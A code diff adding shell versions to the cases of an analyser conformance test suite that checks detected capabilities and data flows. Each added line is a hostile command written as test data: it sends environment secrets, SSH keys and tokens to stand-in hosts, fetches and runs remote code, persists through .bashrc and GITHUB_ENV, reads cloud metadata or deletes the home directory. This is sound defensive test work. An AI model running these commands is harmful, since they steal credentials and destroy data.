@@ -7,6 +7,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `fetch("https://webhook.site/x", { method: "POST", body: JSON.stringify(process.env) });`,
       python: `import os, requests\nrequests.post("https://webhook.site/x", json=dict(os.environ))`,
+      shell: `env | curl -X POST -d @- https://webhook.site/x`,
     },
     flows: [
       {
@@ -22,6 +23,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const e = process.env; fetch("https://h.example", { body: JSON.stringify({ a: { ...e } }) });`,
       python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", json={"a": {**e}})`,
+      shell: String.raw`curl -d "{\"a\": \"$(printenv | base64)\"}" https://h.example`,
     },
     flows: [{ from: "read.environment", to: "network.send", source: "*" }],
   },
@@ -30,6 +32,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const e = process.env; fetch("https://h.example", { body: e.LANG });`,
       python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", data=e["LANG"])`,
+      shell: `curl -d "$LANG" https://h.example`,
     },
     flows: [{ from: "read.environment", to: "network.send", source: "LANG" }],
     noFlows: [{ from: "read.credential", to: "network.send" }],
@@ -39,6 +42,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `fetch("https://h.example", { body: process.env["NPM" + "_" + "TOKEN"] });`,
       python: `import os, requests\nrequests.post("https://h.example", data=os.environ["NPM" + "_" + "TOKEN"])`,
+      shell: 'n=NPM; n="${n}_TOKEN"; curl -d "${!n}" https://h.example',
     },
     flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
   },
@@ -47,6 +51,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const fs = require("fs"), os = require("os"), path = require("path"); fetch("https://h.example", { body: fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8") });`,
       python: `import os, requests\nrequests.post("https://h.example", data=open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read())`,
+      shell: `curl -T ~/.ssh/id_rsa https://h.example`,
     },
     flows: [{ from: "read.credential", to: "network.send", source: "~/.ssh/id_rsa" }],
   },
@@ -55,6 +60,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("fs").readFile("/home/u/.npmrc", "utf8", (e, d) => { require("https").request({ hostname: "h.example", method: "POST" }).end(d); });`,
       python: `import http.client\nd = open("/home/u/.npmrc").read()\nc = http.client.HTTPSConnection("h.example")\nc.request("POST", "/", body=d)`,
+      shell: `cat /home/u/.npmrc | while read -r l; do nc h.example 80 <<< "$l"; done`,
     },
     flows: [
       {
@@ -70,6 +76,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const t = require("fs").readFileSync("package.json", "utf8"); console.log(t);`,
       python: `t = open("setup.cfg").read()\nprint(t)`,
+      shell: `cat package.json`,
     },
     capabilities: [{ capability: "read.file" }],
     noCapabilities: ["read.credential", "network.send"],
@@ -79,6 +86,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("fs").appendFileSync(process.env.HOME + "/.bashrc", "curl x | sh");`,
       python: `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl x | sh")`,
+      shell: `echo "curl x | sh" >> ~/.bashrc`,
     },
     capabilities: [{ capability: "write.startup", target: "~/.bashrc" }],
   },
@@ -87,6 +95,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("fs").appendFileSync(process.env.GITHUB_ENV, "BASH_ENV=/tmp/x");`,
       python: `import os\nopen(os.environ["GITHUB_ENV"], "a").write("BASH_ENV=/tmp/x")`,
+      shell: `echo BASH_ENV=/tmp/x >> "$GITHUB_ENV"`,
     },
     capabilities: [{ capability: "write.ci" }],
   },
@@ -95,6 +104,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `fetch("http://169.254.169.254/latest/meta-data/iam/");`,
       python: `from urllib.request import urlopen\nurlopen("http://169.254.169.254/latest/meta-data/iam/")`,
+      shell: `curl http://169.254.169.254/latest/meta-data/iam/`,
     },
     capabilities: [{ capability: "read.metadata" }],
   },
@@ -103,6 +113,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `fetch("https://h.example/p").then((r) => r.text()).then((t) => eval(t));`,
       python: `import requests\nexec(requests.get("https://h.example/p").text)`,
+      shell: `bash <(curl -s https://h.example/p)`,
     },
     flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
   },
@@ -111,6 +122,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("https").get("https://h.example/p", (res) => { let b = ""; res.on("data", (c) => { b += c; }); res.on("end", () => { eval(b); }); });`,
       python: `import urllib.request\nwith urllib.request.urlopen("https://h.example/p") as res:\n    b = ""\n    for c in res:\n        b += c.decode()\nexec(b)`,
+      shell: `p=$(wget -qO- https://h.example/p); eval "$p"`,
     },
     flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
   },
@@ -119,6 +131,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const s = require("net").connect(4444, "h.example"); s.write(require("os").hostname());`,
       python: `import socket\ns = socket.create_connection(("h.example", 4444))\ns.sendall(socket.gethostname().encode())`,
+      shell: `hostname | nc h.example 4444`,
     },
     flows: [{ from: "read.host", to: "network.send", destination: "h.example" }],
   },
@@ -127,6 +140,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: "require('dns').lookup(`${process.env.NPM_TOKEN}.h.example`, () => {});",
       python: `import os, socket\nsocket.gethostbyname(os.environ["NPM_TOKEN"] + ".h.example")`,
+      shell: `nslookup "$NPM_TOKEN.h.example"`,
     },
     flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
   },
@@ -135,6 +149,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const fs = require("fs"); fetch("https://h.example/b").then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync("/tmp/b", b); fs.chmodSync("/tmp/b", 0o755); require("child_process").spawn("/tmp/b"); });`,
       python: `import os, requests, subprocess\nopen("/tmp/b", "wb").write(requests.get("https://h.example/b").content)\nos.chmod("/tmp/b", 0o755)\nsubprocess.Popen(["/tmp/b"])`,
+      shell: `curl -sSLo /tmp/b https://h.example/b; echo x >> /tmp/b; curl https://h.example/b > /tmp/b; chmod +x /tmp/b; sh -c /tmp/b`,
     },
     flows: [{ from: "network.receive", to: "write.file", destination: "/tmp/b" }],
     capabilities: [
@@ -147,6 +162,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`,
       python: `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`,
+      shell: `rm -rf ~/`,
     },
     capabilities: [{ capability: "destroy.files", target: "~" }],
   },
@@ -155,6 +171,7 @@ export const PLACE_CASES: ConformanceCase[] = [
     programs: {
       javascript: `process.dlopen({ exports: {} }, "./x.node");`,
       python: `import ctypes\nctypes.CDLL("./x.so")`,
+      shell: `insmod ./x.ko`,
     },
     capabilities: [{ capability: "execute.native", target: "./x." }],
   },
